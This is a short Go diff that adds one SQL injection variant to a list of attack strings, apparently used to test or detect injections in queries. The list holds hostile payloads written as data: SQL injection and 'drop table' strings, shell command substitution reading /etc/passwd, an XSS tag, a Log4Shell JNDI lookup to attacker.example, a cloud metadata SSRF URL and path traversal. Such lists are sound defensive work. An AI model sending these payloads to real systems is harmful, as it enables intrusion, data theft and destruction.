@@ -120,7 +120,7 @@ func lists(headers map[string]string) map[string][]string {
 
 // partAttacks are found in a query today.
 var partAttacks = []string{
-	`1' or 1=1-- `, `1'or(1)=(1)or'`, `1' union select password from users-- `, `1;drop table users--`,
+	`1' or 1=1-- `, `1 or 1=1-- `, `1'or(1)=(1)or'`, `1' union select password from users-- `, `1;drop table users--`,
 	`$(cat /etc/passwd)`, "`cat /etc/passwd`", `<script>alert(1)</script>`, `${jndi:ldap://attacker.example/a}`,
 	`http://169.254.169.254/latest/meta-data/`, `../../../../etc/passwd`,
 }
